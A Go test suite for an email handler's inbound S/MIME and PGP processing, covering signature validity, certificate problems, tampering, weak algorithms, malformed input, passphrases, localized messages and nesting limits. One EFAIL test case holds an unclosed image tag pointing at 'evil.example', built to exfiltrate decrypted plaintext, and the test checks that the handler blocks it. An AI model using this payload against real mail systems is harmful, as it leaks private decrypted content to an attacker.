package handlers

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/rsa"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/secmail/secmail/cms"
	"github.com/secmail/secmail/reason"
	"github.com/secmail/secmail/result"
)

const textEntity = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nHello from the customer.\r\nGrüße und iyi günler!\r\n"

func headers(from string) string {
	return "From: Someone <" + from + ">\r\nTo: support@helpdesk.example\r\nSubject: Interop test\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\nMessage-ID: <test@customer.example>\r\n"
}

// sign signs entity with openssl as name (detached multipart/signed unless
// extra says otherwise) and returns the MIME output without outer headers.
func (w *world) sign(t testing.TB, name string, entity string, extra ...string) []byte {
	args := append([]string{"-sign", "-signer", w.cert(name), "-inkey", w.key(name)}, extra...)
	return w.cms(t, []byte(entity), args...)
}

func (w *world) encrypt(t testing.TB, entity []byte, extra []string, recips ...string) []byte {
	args := append([]string{"-encrypt"}, extra...)
	for _, r := range recips {
		args = append(args, w.cert(r))
	}
	return w.cms(t, entity, args...)
}

// check is the expected outcome of one check: status and reason.
type check struct {
	status result.Status
	reason reason.Code
}

var (
	none = check{status: result.StatusNone}
	ok   = check{status: result.StatusOK}
)

func failed(c reason.Code) check { return check{status: result.StatusFailed, reason: c} }

func TestInboundSMIMEInterop(t *testing.T) {
	w := getWorld(t)
	kr := w.keyring(t, w.dir)
	h := New(kr, testConfig(t))
	inter := []string{"-certfile", filepath.Join(w.tmp, "inter.crt")}

	tests := []struct {
		name     string
		from     string
		build    func(t testing.TB) []byte
		typ      result.Type
		enc      check
		sign     check
		alg      string
		warnings []reason.Code
		body     string // must appear in the processed message
		absent   string // must not appear in it
	}{
		{name: "plain", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return []byte(textEntity) },
			enc:   none, sign: none, body: "Hello from the customer"},
		{name: "signed detached RSA with intermediate", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "alice", textEntity, inter...) },
			typ:   result.SMIME, enc: none, sign: ok, body: "Hello from the customer"},
		{name: "signed opaque", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "alice", textEntity, append(inter, "-nodetach")...) },
			typ:   result.SMIME, enc: none, sign: ok, body: "Hello from the customer"},
		{name: "signed ECDSA", from: "bob@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "bob", textEntity, inter...) },
			typ:   result.SMIME, enc: none, sign: ok},
		{name: "signed RSA-PSS sha512", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.sign(t, "alice", textEntity, append(inter, "-md", "sha512", "-keyopt", "rsa_padding_mode:pss")...)
			},
			typ: result.SMIME, enc: none, sign: ok},
		{name: "signed without certificates, signer in store", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "alice", textEntity, "-nocerts") },
			typ:   result.SMIME, enc: none, sign: ok},
		{name: "signed without certificates, signer unknown", from: "carol@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "carol", textEntity, "-nocerts") },
			typ:   result.SMIME, enc: none, sign: failed(reason.NoCertificate)},
		{name: "signed by untrusted CA", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.sign(t, "stranger", textEntity, "-certfile", filepath.Join(w.tmp, "foreign-inter.crt"))
			},
			typ: result.SMIME, enc: none, sign: failed(reason.UntrustedIssuer)},
		{name: "signed with expired certificate", from: "old@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "expired", textEntity, inter...) },
			typ:   result.SMIME, enc: none, sign: failed(reason.Expired)},
		{name: "signed with not yet valid certificate", from: "early@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "future", textEntity, inter...) },
			typ:   result.SMIME, enc: none, sign: failed(reason.NotYetValid)},
		{name: "signed with revoked certificate", from: "gone@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "revoked", textEntity, inter...) },
			typ:   result.SMIME, enc: none, sign: failed(reason.Revoked)},
		{name: "tampered body", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return bytes.Replace(w.sign(t, "alice", textEntity, inter...), []byte("Hello from"), []byte("Jello from"), 1)
			},
			typ: result.SMIME, enc: none, sign: failed(reason.BadSignature)},
		{name: "signer is not the sender", from: "mallory@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "alice", textEntity, inter...) },
			typ:   result.SMIME, enc: none, sign: failed(reason.SignerMismatch)},
		{name: "SHA-1 signature", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.sign(t, "alice", textEntity, append(inter, "-md", "sha1")...) },
			typ:   result.SMIME, enc: none, sign: ok, warnings: []reason.Code{reason.WeakAlgorithm}},
		{name: "encrypted AES-256-CBC to our RSA key", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "ours") },
			typ:   result.SMIME, enc: ok, sign: none, alg: "aes-256-cbc", body: "Grüße"},
		{name: "encrypted AES-128-GCM (AuthEnvelopedData)", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.encrypt(t, []byte(textEntity), []string{"-aes-128-gcm"}, "ours") },
			typ:   result.SMIME, enc: ok, sign: none, alg: "aes-128-gcm", body: "Hello from the customer"},
		{name: "encrypted to our EC key (ECDH)", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.encrypt(t, []byte(textEntity), []string{"-aes-256-gcm"}, "oursEC") },
			typ:   result.SMIME, enc: ok, sign: none, alg: "aes-256-gcm", body: "Hello from the customer"},
		{name: "encrypted RSA-OAEP SHA-256", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.encrypt(t, []byte(textEntity), []string{"-aes256", "-recip", w.cert("ours"), "-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"})
			},
			typ: result.SMIME, enc: ok, sign: none, alg: "aes-256-cbc"},
		{name: "encrypted by subject key identifier, three recipients", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.encrypt(t, []byte(textEntity), []string{"-aes256", "-keyid"}, "carol", "ours", "bob")
			},
			typ: result.SMIME, enc: ok, sign: none},
		{name: "legacy 3DES", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.encrypt(t, []byte(textEntity), []string{"-des3"}, "ours") },
			typ:   result.SMIME, enc: ok, sign: none, alg: "des-ede3-cbc", warnings: []reason.Code{reason.WeakAlgorithm}},
		{name: "single DES refused", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.encrypt(t, []byte(textEntity), []string{"-des", "-provider", "legacy", "-provider", "default"}, "ours")
			},
			typ: result.SMIME, enc: failed(reason.UnsupportedAlgorithm), sign: none},
		{name: "encrypted for someone else", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "carol") },
			typ:   result.SMIME, enc: failed(reason.NoPrivateKey), sign: none},
		{name: "signed then encrypted", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.encrypt(t, w.sign(t, "alice", textEntity, inter...), []string{"-aes-256-gcm"}, "ours")
			},
			typ: result.SMIME, enc: ok, sign: ok, body: "Hello from the customer"},
		{name: "encrypted then signed", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return w.sign(t, "alice", string(w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "ours")), inter...)
			},
			typ: result.SMIME, enc: ok, sign: ok, body: "Hello from the customer"},
		{name: "triple wrap", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				inner := w.sign(t, "alice", textEntity, inter...)
				return w.sign(t, "alice", string(w.encrypt(t, inner, []string{"-aes256"}, "ours")), inter...)
			},
			typ: result.SMIME, enc: ok, sign: ok, body: "Hello from the customer"},
		{name: "signed then encrypted, tampered inner signature", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				signed := bytes.Replace(w.sign(t, "alice", textEntity, inter...), []byte("Hello from"), []byte("Jello from"), 1)
				return w.encrypt(t, signed, []string{"-aes256"}, "ours")
			},
			typ: result.SMIME, enc: ok, sign: failed(reason.BadSignature)},
		{name: "truncated CMS", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				full := w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "ours")
				return truncateBase64(t, full)
			},
			typ: result.SMIME, enc: failed(reason.Malformed), sign: none},
		{name: "broken base64", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return []byte("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n")
			},
			typ: result.SMIME, enc: failed(reason.Malformed), sign: none},
		{name: "Outlook octet-stream smime.p7m", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				out := w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "ours")
				return bytes.Replace(out, []byte("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=\"smime.p7m\""),
					[]byte("Content-Type: application/octet-stream; name=\"smime.p7m\""), 1)
			},
			typ: result.SMIME, enc: ok, sign: none},
		{name: "x-pkcs7-mime without smime-type", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				out := w.sign(t, "alice", textEntity, append(inter, "-nodetach")...)
				return bytes.Replace(out, []byte("application/pkcs7-mime; smime-type=signed-data;"), []byte("application/x-pkcs7-mime;"), 1)
			},
			typ: result.SMIME, enc: none, sign: ok},
		{name: "forwarded signed mail is not the article's signature", from: "carol@customer.example",
			build: func(t testing.TB) []byte {
				fwd := w.sign(t, "alice", textEntity, inter...)
				return []byte("Content-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n--b1\r\nContent-Type: message/rfc822\r\n\r\n" +
					headers("alice@customer.example") + string(fwd) + "\r\n--b1--\r\n")
			},
			enc: none, sign: none, body: "See below."},
		{name: "encrypted part next to plain text (EFAIL)", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				enc := w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "ours")
				return []byte("Content-Type: multipart/mixed; boundary=b2\r\n\r\n--b2\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--b2\r\n" +
					string(enc) + "\r\n--b2--\r\n")
			},
			typ: result.SMIME, enc: ok, sign: none, warnings: []reason.Code{reason.PartiallyEncrypted}, body: "Hello from the customer",
			absent: "evil.example"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			raw := append([]byte(headers(tc.from)), tc.build(t)...)
			out, err := h.Inbound(bg, raw)
			if err != nil {
				t.Fatalf("Inbound: %v", err)
			}
			assertSecurity(t, out.Security, tc.typ, tc.enc, tc.sign, tc.warnings)
			if tc.alg != "" && out.Security.Encryption.Algorithm != tc.alg {
				t.Errorf("algorithm = %q, want %q", out.Security.Encryption.Algorithm, tc.alg)
			}
			if tc.body != "" && !bytes.Contains(out.Raw, []byte(tc.body)) {
				t.Errorf("processed message lacks %q:\n%s", tc.body, out.Raw)
			}
			if !bytes.Contains(out.Raw, []byte("Subject: Interop test")) {
				t.Errorf("processed message lost the outer headers:\n%.400s", out.Raw)
			}
			if tc.absent != "" && bytes.Contains(out.Raw, []byte(tc.absent)) {
				t.Errorf("processed message contains %q: plaintext was spliced with unencrypted content", tc.absent)
			}
		})
	}
}

func truncateBase64(t testing.TB, msg []byte) []byte {
	i := bytes.Index(msg, []byte("\n\n"))
	if j := bytes.Index(msg, []byte("\r\n\r\n")); j >= 0 && (i < 0 || j < i) {
		i = j
	}
	if i < 0 {
		t.Fatal("no body")
	}
	body := msg[i:]
	return append(append([]byte{}, msg[:i]...), body[:len(body)/2]...)
}

func assertSecurity(t *testing.T, s result.Security, typ result.Type, enc, sign check, warnings []reason.Code) {
	t.Helper()
	js, _ := json.Marshal(s)
	if typ == "" && s.Type != nil {
		t.Errorf("type = %s, want null (%s)", *s.Type, js)
	}
	if typ != "" && (s.Type == nil || *s.Type != typ) {
		t.Errorf("type wrong, want %s: %s", typ, js)
	}
	for _, c := range []struct {
		name string
		got  result.Check
		want check
	}{{"encryption", s.Encryption, enc}, {"sign", s.Sign, sign}} {
		if c.got.Status != c.want.status {
			t.Errorf("%s status = %s, want %s: %s", c.name, c.got.Status, c.want.status, js)
		}
		got := reason.Code("")
		if c.got.Reason != nil {
			got = *c.got.Reason
		}
		if got != c.want.reason {
			t.Errorf("%s reason = %q, want %q: %s", c.name, got, c.want.reason, js)
		}
		if c.got.Success != (c.want.status == result.StatusOK) {
			t.Errorf("%s success = %v: %s", c.name, c.got.Success, js)
		}
		if c.want.status == result.StatusFailed && c.got.Comment == "" {
			t.Errorf("%s has no comment", c.name)
		}
	}
	if fmt.Sprint(s.Warnings) != fmt.Sprint(nonNil(warnings)) {
		t.Errorf("warnings = %v, want %v", s.Warnings, warnings)
	}
}

func nonNil(w []reason.Code) []reason.Code {
	if w == nil {
		return []reason.Code{}
	}
	return w
}

func TestInboundWrongPassphrase(t *testing.T) {
	w := getWorld(t)
	lockedDir := filepath.Join(filepath.Dir(w.dir), "locked")
	msg := append([]byte(headers("alice@customer.example")), w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "ours")...)
	for _, tc := range []struct {
		name string
		pass []string
		enc  check
	}{
		{"no passphrase", nil, failed(reason.WrongPassphrase)},
		{"wrong passphrase", []string{"battery staple"}, failed(reason.WrongPassphrase)},
		{"right passphrase after a wrong one", []string{"battery staple", "correct horse"}, ok},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := New(w.keyring(t, lockedDir, tc.pass...), testConfig(t))
			out, err := h.Inbound(bg, msg)
			if err != nil {
				t.Fatal(err)
			}
			assertSecurity(t, out.Security, result.SMIME, tc.enc, none, nil)
		})
	}
}

func TestInboundLanguages(t *testing.T) {
	w := getWorld(t)
	msg := append([]byte(headers("alice@customer.example")), w.encrypt(t, []byte(textEntity), []string{"-aes256"}, "carol")...)
	want := map[reason.Lang]string{
		reason.EN: "The private key for decryption could not be found.",
		reason.DE: "Der private Schlüssel zur Entschlüsselung konnte nicht gefunden werden.",
		reason.TR: "Şifre çözme için özel anahtar bulunamadı.",
	}
	for lang, sentence := range want {
		cfg := testConfig(t)
		cfg.Lang = lang
		out, err := New(w.keyring(t, w.dir), cfg).Inbound(bg, msg)
		if err != nil {
			t.Fatal(err)
		}
		if out.Security.Encryption.Comment != sentence {
			t.Errorf("%s: comment = %q, want %q", lang, out.Security.Encryption.Comment, sentence)
		}
	}
}

// pgpMIMEEncrypted wraps an armored OpenPGP message as RFC 3156 PGP/MIME.
func pgpMIMEEncrypted(armored []byte) []byte {
	return []byte("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n" +
		string(armored) + "\r\n--enc--\r\n")
}

// pgpMIMESigned signs entity with gpg as RFC 3156 multipart/signed.
func (w *world) pgpMIMESigned(t testing.TB, signer string, entity string) []byte {
	sig, err := w.gpg([]byte(entity), "--armor", "--detach-sign", "--digest-algo", "SHA256", "-u", signer)
	if err != nil {
		t.Fatal(err)
	}
	return []byte("Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=\"sig\"\r\n\r\n--sig\r\n" +
		entity + "\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n" + string(sig) + "\r\n--sig--\r\n")
}

func TestInboundPGPInterop(t *testing.T) {
	w := getWorld(t)
	h := New(w.keyring(t, w.dir), testConfig(t))
	gpgOut := func(t testing.TB, in []byte, args ...string) []byte {
		out, err := w.gpg(in, args...)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	latin1 := "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	tests := []struct {
		name     string
		from     string
		build    func(t testing.TB) []byte
		enc      check
		sign     check
		warnings []reason.Code
		body     string
	}{
		{name: "PGP/MIME encrypted", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return pgpMIMEEncrypted(gpgOut(t, []byte(textEntity), "--armor", "--encrypt", "-r", w.pgpOursFpr))
			},
			enc: ok, sign: none, body: "Hello from the customer"},
		{name: "PGP/MIME signed and encrypted in one pass", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return pgpMIMEEncrypted(gpgOut(t, []byte(textEntity), "--armor", "--sign", "--encrypt", "-u", w.pgpAliceFpr, "-r", w.pgpOursFpr))
			},
			enc: ok, sign: ok, body: "Hello from the customer"},
		{name: "PGP/MIME signed", from: "alice@customer.example",
			build: func(t testing.TB) []byte { return w.pgpMIMESigned(t, w.pgpAliceFpr, textEntity) },
			enc:   none, sign: ok, body: "Hello from the customer"},
		{name: "PGP/MIME signed with LF line endings in transit", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return bytes.ReplaceAll(w.pgpMIMESigned(t, w.pgpAliceFpr, textEntity), []byte("\r\n"), []byte("\n"))
			},
			enc: none, sign: ok},
		{name: "PGP/MIME signed, tampered", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return bytes.Replace(w.pgpMIMESigned(t, w.pgpAliceFpr, textEntity), []byte("Hello from"), []byte("Jello from"), 1)
			},
			enc: none, sign: failed(reason.BadSignature)},
		{name: "PGP/MIME signed by unknown key", from: "stranger@customer.example",
			build: func(t testing.TB) []byte { return w.pgpMIMESigned(t, w.pgpStrangerFpr, textEntity) },
			enc:   none, sign: failed(reason.NoPublicKey)},
		{name: "PGP/MIME signer is not the sender", from: "mallory@customer.example",
			build: func(t testing.TB) []byte { return w.pgpMIMESigned(t, w.pgpAliceFpr, textEntity) },
			enc:   none, sign: failed(reason.SignerMismatch)},
		{name: "PGP encrypted to someone else", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return pgpMIMEEncrypted(gpgOut(t, []byte(textEntity), "--armor", "--encrypt", "-r", w.pgpStrangerFpr))
			},
			enc: failed(reason.NoPrivateKey), sign: none},
		{name: "inline PGP encrypted", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return append([]byte("Content-Type: text/plain; charset=utf-8\r\n\r\n"), gpgOut(t, []byte("Grüße, inline!\n"), "--armor", "--encrypt", "-r", w.pgpOursFpr)...)
			},
			enc: ok, sign: none, body: "Grüße, inline!"},
		{name: "inline PGP clearsigned UTF-8", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return append([]byte("Content-Type: text/plain; charset=utf-8\r\n\r\n"), gpgOut(t, []byte("Grüße, signed inline.\n"), "--clearsign", "-u", w.pgpAliceFpr)...)
			},
			enc: none, sign: ok, body: "Grüße, signed inline."},
		{name: "inline PGP clearsigned ISO-8859-1", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return append([]byte(latin1), gpgOut(t, []byte("Gr\xfc\xdfe aus Latin-1.\n"), "--clearsign", "-u", w.pgpAliceFpr)...)
			},
			enc: none, sign: ok, body: "Gr\xfc\xdfe aus Latin-1."},
		{name: "inline PGP block inside plain text", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return append([]byte("Content-Type: text/plain; charset=utf-8\r\n\r\nUnencrypted preface\r\n"), gpgOut(t, []byte("secret part\n"), "--armor", "--encrypt", "-r", w.pgpOursFpr)...)
			},
			enc: ok, sign: none, warnings: []reason.Code{reason.PartiallyEncrypted}, body: "secret part"},
		{name: "inline PGP signed-only message", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				return append([]byte("Content-Type: text/plain; charset=utf-8\r\n\r\n"), gpgOut(t, []byte("signed, not encrypted\n"), "--armor", "--sign", "-u", w.pgpAliceFpr)...)
			},
			enc: none, sign: ok, body: "signed, not encrypted"},
		{name: "PGP ciphertext tampered", from: "alice@customer.example",
			build: func(t testing.TB) []byte {
				bin := gpgOut(t, []byte(textEntity), "--encrypt", "-r", w.pgpOursFpr)
				bin[len(bin)-30] ^= 0x40
				armored := "-----BEGIN PGP MESSAGE-----\r\n\r\n" + base64.StdEncoding.EncodeToString(bin) + "\r\n-----END PGP MESSAGE-----\r\n"
				return pgpMIMEEncrypted([]byte(armored))
			},
			enc: failed(reason.Malformed), sign: none},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			raw := append([]byte(headers(tc.from)), tc.build(t)...)
			out, err := h.Inbound(bg, raw)
			if err != nil {
				t.Fatalf("Inbound: %v", err)
			}
			assertSecurity(t, out.Security, result.PGP, tc.enc, tc.sign, tc.warnings)
			if tc.body != "" && !bytes.Contains(out.Raw, []byte(tc.body)) {
				t.Errorf("processed message lacks %q:\n%s", tc.body, out.Raw)
			}
			if tc.enc.status == result.StatusOK && strings.Contains(string(out.Raw), "BEGIN PGP MESSAGE") {
				t.Errorf("processed message still encrypted")
			}
		})
	}
}

// TestInboundTooManyLayers: a message wrapped in more signature layers than
// any real mail has is refused as too-complex instead of costing unbounded
// CPU.
func TestInboundTooManyLayers(t *testing.T) {
	w := getWorld(t)
	h := New(w.keyring(t, w.dir), testConfig(t))
	entity := []byte(textEntity)
	for i := 0; i < maxLayers+2; i++ {
		der, err := cms.Sign(entity, w.alice.Cert, w.alice.Key, nil, cms.SignOptions{})
		if err != nil {
			t.Fatal(err)
		}
		entity = smimePart("signed-data", der)
	}
	out, err := h.Inbound(bg, append([]byte(headers("alice@customer.example")), entity...))
	if err != nil {
		t.Fatal(err)
	}
	if c := out.Security.Encryption.Reason; c == nil || *c != reason.TooComplex {
		t.Fatalf("security = %+v, want too-complex", out.Security)
	}
}

// countingVerifier counts the signatures it checks, with the test
// backend's verifier or, without one, crypto/rsa and crypto/ecdsa.
type countingVerifier struct {
	base cms.PublicKeyVerifier
	n    atomic.Int64
}

func (c *countingVerifier) VerifyPKCS1v15(pub *rsa.PublicKey, hash crypto.Hash, hashed, sig []byte) error {
	c.n.Add(1)
	if c.base == nil {
		return rsa.VerifyPKCS1v15(pub, hash, hashed, sig)
	}
	return c.base.VerifyPKCS1v15(pub, hash, hashed, sig)
}

func (c *countingVerifier) VerifyPSS(pub *rsa.PublicKey, hash crypto.Hash, digest, sig []byte, opts *rsa.PSSOptions) error {
	c.n.Add(1)
	if c.base == nil {
		return rsa.VerifyPSS(pub, hash, digest, sig, opts)
	}
	return c.base.VerifyPSS(pub, hash, digest, sig, opts)
}

func (c *countingVerifier) VerifyASN1(pub *ecdsa.PublicKey, digest, sig []byte) bool {
	c.n.Add(1)
	if c.base == nil {
		return ecdsa.VerifyASN1(pub, digest, sig)
	}
	return c.base.VerifyASN1(pub, digest, sig)
}

// TestInboundVerifierAndCertCache: S/MIME signatures are checked by the
// configured verifier, and the certificates a sender's messages carry are
// parsed once per handler.
func TestInboundVerifierAndCertCache(t *testing.T) {
	w := getWorld(t)
	cfg := testConfig(t)
	v := &countingVerifier{base: cfg.Verifier}
	cfg.Verifier = v
	h := New(w.keyring(t, w.dir), cfg)
	inter := []string{"-certfile", filepath.Join(w.tmp, "inter.crt")}
	for _, tc := range []struct {
		name, signer, from string
	}{
		{"RSA", "alice", "alice@customer.example"},
		{"ECDSA", "bob", "bob@customer.example"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			msg := append([]byte(headers(tc.from)), w.sign(t, tc.signer, textEntity, inter...)...)
			before := v.n.Load()
			var certs [2]int
			for i := range certs {
				out, err := h.Inbound(bg, msg)
				if err != nil {
					t.Fatal(err)
				}
				assertSecurity(t, out.Security, result.SMIME, none, ok, nil)
				certs[i] = h.certs.Len()
			}
			if got := v.n.Load() - before; got != 2 {
				t.Errorf("verifier checked %d signatures, want 2", got)
			}
			// The first message brings its certificates into the cache,
			// the second one finds them there.
			if certs[0] == 0 || certs[1] != certs[0] {
				t.Errorf("certificates cached after each message: %v", certs)
			}
		})
	}
}
